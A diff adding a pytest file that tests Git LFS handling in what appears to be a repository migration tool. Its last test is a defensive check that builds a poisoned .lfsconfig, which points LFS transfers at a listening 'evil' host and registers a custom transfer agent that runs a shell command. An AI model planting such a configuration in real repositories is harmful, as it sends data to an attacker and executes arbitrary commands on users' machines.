@@ -1,0 +1,134 @@
+"""Git LFS objects travel with the history, before the refs that name them."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+from lab import open_lab, project
+
+pytestmark = pytest.mark.skipif(shutil.which("git-lfs") is None, reason="no git-lfs")
+TEXTS = ("first", "second", "third one")
+
+
+def with_lfs(**files: Any) -> dict[str, Any]:
+    """A project with three LFS objects, two of them in its past or on another branch."""
+    attributes = {".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n", **files}
+    commits = [
+        {"name": "one", "message": "Begin", "files": {**attributes, "a.bin": {"lfs": TEXTS[0]}}},
+        {"name": "two", "message": "Go on", "files": {"a.bin": {"lfs": TEXTS[1]}}},
+        {"name": "side", "branch": "side", "message": "Aside", "files": {"b.bin": {"lfs": TEXTS[2]}}},
+    ]
+    return project(repository={"default_branch": "main", "commits": commits})
+
+
+async def test_objects_arrive_and_are_compared_by_oid(tmp_path: Path) -> None:
+    """All versions of all branches are there; verify counts them; a second run sends nothing."""
+    async with open_lab(tmp_path, [with_lfs()]) as lab:
+        result = await lab.run("FULL")
+        assert result["status"] == "success", result
+        held = (await lab.repository())["lfs_objects"]
+        assert sorted(held.values()) == sorted(len(text) for text in TEXTS)
+        assert held == {
+            oid: path.stat().st_size for oid, path in lab.sandbox.gitlab.projects[17].lfs_objects.items()
+        }
+        assert result["agents"]["verify"]["counts"]["lfs_objects"] == 3
+        mark = lab.mark()
+        assert (await lab.run("FULL"))["status"] == "success"
+        assert not [line for line in lab.writes(mark) if "/storage/" in line]
+
+
+async def test_a_lost_object_is_a_difference_with_its_oid(tmp_path: Path) -> None:
+    """What the target loses before verify is named, and the project is not opened."""
+    async with open_lab(tmp_path, [with_lfs()]) as lab:
+        # The first look of verify is made to fail, so that the fill stands and nothing is closed.
+        await lab.faults({"method": "GET", "path": "*/labels", "effect": {"status": 404, "body": {}}})
+        assert (await lab.run("FULL"))["agents"]["apply"]["status"] == "done"
+        await lab.faults()
+        oid = min((await lab.repository())["lfs_objects"])
+        await lab.damage({"op": "remove", "path": f"/lfs_objects/{oid}"})
+        result = await lab.run("APPLY", resume_from="verify")
+        assert (result["status"], result["error"]["reason"]) == ("failed", "verify-differences")
+        (found,) = (lab.folder_of() / "verify.ndjson").read_text().splitlines()
+        assert (json.loads(found)["item"], json.loads(found)["sort"]) == (f"lfs_objects/{oid}", "missing")
+
+
+async def test_an_apply_elsewhere_fetches_the_objects_again(tmp_path: Path) -> None:
+    """From a plan whose mirror did not come along, history and objects are fetched anew."""
+    async with open_lab(tmp_path, [with_lfs()]) as lab:
+        assert (await lab.run("PLAN_ONLY"))["status"] == "success"
+        await asyncio.to_thread(shutil.rmtree, lab.folder_of() / "git")
+        result = await lab.run("APPLY")
+        assert result["status"] == "success", result
+        assert len((await lab.repository())["lfs_objects"]) == 3
+
+
+async def test_what_gitlab_has_lost_is_a_loss_and_the_refusal_says_what_to_do(tmp_path: Path) -> None:
+    """The plan names the object; GitHub refuses the history that names it, with the remedy."""
+    async with open_lab(tmp_path, [with_lfs()]) as lab:
+        objects = lab.sandbox.gitlab.projects[17].lfs_objects
+        oid = min(objects)
+        objects.pop(oid).unlink()
+        planned = await lab.run("PLAN_ONLY")
+        assert planned["status"] == "success"
+        losses = (lab.folder_of() / "desired" / "losses.ndjson").read_text()
+        assert f"lfs_objects/{oid}" in losses
+        result = await lab.run("APPLY")
+        assert result["status"] != "success"
+        assert "unknown Git LFS object" in str(result["error"]) or "LFS objects" in str(result["error"])
+        assert (await lab.repository())["refs"] == {}
+
+
+async def test_a_budget_that_is_used_up_stops_one_project_and_goes_on_later(tmp_path: Path) -> None:
+    """The error says so; the other project of the batch arrives; with more budget the run goes on."""
+    other = project("acme/other", 18)
+    async with open_lab(tmp_path, [with_lfs(), other]) as lab:
+        await lab.control(
+            "PATCH", "state", [{"op": "replace", "path": "/settings/lfs_quota_bytes", "value": 3}]
+        )
+        results = {one["project_id"]: one for one in (await lab.batch("FULL"))["results"]}
+        assert results[18]["status"] == "success"
+        assert results[17]["status"] != "success"
+        assert "LFS" in str(results[17]["error"])
+        await lab.control(
+            "PATCH", "state", [{"op": "replace", "path": "/settings/lfs_quota_bytes", "value": 999}]
+        )
+        again = {one["project_id"]: one["status"] for one in (await lab.batch("FULL"))["results"]}
+        assert again == {17: "success", 18: "success"}
+
+
+async def test_a_poisoned_lfsconfig_leads_nowhere(tmp_path: Path) -> None:
+    """Another host, exclusions and an agent in the repository's own configuration change nothing."""
+    reached: list[bytes] = []
+
+    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        reached.append(await reader.read(1000))
+        writer.close()
+
+    server = await asyncio.start_server(listen, "127.0.0.1", 0)
+    host = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/evil"
+    poison = "\n".join(
+        (
+            "[lfs]",
+            f"\turl = {host}",
+            f"\tpushurl = {host}",
+            "\tfetchexclude = *",
+            "\tskipdownloaderrors = true",
+            "\tstandalonetransferagent = evil",
+            f'[remote "source"]\n\tlfsurl = {host}\n\tlfspushurl = {host}',
+            f'[remote "origin"]\n\tlfsurl = {host}',
+            '[lfs "customtransfer.evil"]',
+            f"\tpath = touch {tmp_path / 'owned'}",
+            "",
+        )
+    )
+    async with server, open_lab(tmp_path, [with_lfs(**{".lfsconfig": poison})]) as lab:
+        result = await lab.run("FULL")
+        assert result["status"] == "success", result
+        assert len((await lab.repository())["lfs_objects"]) == 3
+    assert reached == []
+    assert not (tmp_path / "owned").exists()
